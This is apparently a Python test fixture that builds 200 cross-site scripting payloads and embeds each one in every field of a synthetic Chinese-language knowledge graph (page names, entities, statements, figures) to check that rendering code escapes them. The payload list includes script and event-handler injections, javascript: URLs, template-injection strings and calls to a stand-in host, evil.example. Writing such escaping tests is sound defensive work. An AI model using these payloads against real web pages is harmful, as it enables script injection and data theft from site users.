"""Two hundred texts that would run as a program in a careless page, and a graph that is full of them."""

from __future__ import annotations

from decimal import Decimal
from itertools import product

from kg.model import (
    ArticleKind,
    ArticleRecord,
    Entity,
    Evidence,
    Knowledge,
    Observation,
    Occurrence,
    Page,
    PartialDate,
    Span,
    Statement,
)

_CODES = ("window.pwned=1", "alert(1)", "document.title='pwned'", "fetch('//evil.example')")
_MARKUP = (
    "<script>{0}</script>", "</script><script>{0}</script>", "<img src=x onerror={0}>", '"><img src=x onerror="{0}">',
    "'><img src=x onerror='{0}'>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<iframe srcdoc='<script>{0}</script>'>",
    "<iframe src='javascript:{0}'>", "<a href='javascript:{0}'>click</a>", "<body onload={0}>", "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>", "<video><source onerror={0}></video>", "<math><mtext><img src=x onerror={0}>",
    "<object data='javascript:{0}'>", "<embed src='javascript:{0}'>", "<form action='javascript:{0}'><button>x</button></form>",
    "<style>@import '//evil.example';</style>{0}", "<link rel=stylesheet href=//evil.example/{0}>", "<base href='//evil.example/'>{0}",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "--><img src=x onerror={0}><!--", "]]><img src=x onerror={0}>",
    "</title><img src=x onerror={0}>", "</style><img src=x onerror={0}>", "</textarea><img src=x onerror={0}>",
    "</noscript><img src=x onerror={0}>", "<template><img src=x onerror={0}></template>", "javascript:{0}//", "' onmouseover='{0}",
    '" onmouseover="{0}" x="', "`${{{0}}}`", "${{{0}}}", "{{{{constructor.constructor('{0}')()}}}}", "<%= {0} %>", "#{{{0}}}",
    "\\u003cimg src=x onerror={0}\\u003e", "&lt;img src=x onerror={0}&gt;", "&#60;img src=x onerror={0}&#62;", "%3Cimg src=x onerror={0}%3E",
    "');{0};//", '");{0};//', "\\'-{0}-\\'", "\u2028{0}\u2029", "href=<img src=x onerror={0}>", "__proto__[{0}]", "constructor {0}",
    "<ſcript>{0}</ſcript>", "<IMG SRC=x ONERROR={0}>",
)  # fmt: skip

PAYLOADS = tuple(shape.format(code) for shape, code in product(_MARKUP, _CODES))


def knowledge() -> Knowledge:
    """Every payload as a name, in a sentence, a title, a file name, a source, a figure and a period."""
    pages, articles, entities, occurrences, statements, figures = [], [], [], [], [], []
    place = Entity("Place:北岭区", "Place", "北岭区", (PAYLOADS[0],))
    for number, payload in enumerate(PAYLOADS):
        text = f"{payload}\n北岭区建设{payload}园，{payload}，投资{number}亿元。\n"
        page = Page(f"{number:03}{payload}.txt", text)
        start = text.index("\n") + 1
        words = Evidence(page.name, "a1", start, len(text) - 1, text[start:-1])
        name = Evidence(page.name, "a1", start + 5, start + 5 + len(payload) + 1, f"{payload}园")
        thing = Entity(f"Project:{payload}园", "Project", f"{payload}园", (payload,), doubt=payload)
        date = PartialDate(2000 + number % 30, 1 + number % 12)
        spans = (Span(0, len(payload)), Span(start, len(text) - 1))
        pages.append(page)
        entities.append(thing)
        articles.append(ArticleRecord(page.name, "a1", ArticleKind.NEWS, payload, spans, date, payload))
        occurrences.append(Occurrence(thing.key, name, "rule"))
        statements.append(Statement(place.key, "hasProject", thing.key, (words,), payload, 0.9, as_of=date))
        statements.append(Statement(thing.key, "date", date, (words,), payload, 0.9))
        statements.append(Statement(thing.key, "partOf", place.key, (), payload, 0.9, gazetteer=payload))
        figures.append(
            Observation((thing.key,), payload, Decimal(number), payload, "=", "target", payload, (words,), payload, 0.9)
        )
    return Knowledge(
        tuple(sorted(pages, key=lambda p: p.name)),
        tuple(sorted(articles, key=lambda a: a.page)),
        tuple(sorted([place, *entities], key=lambda e: e.key)),
        tuple(occurrences),
        tuple(statements),
        tuple(figures),
    )
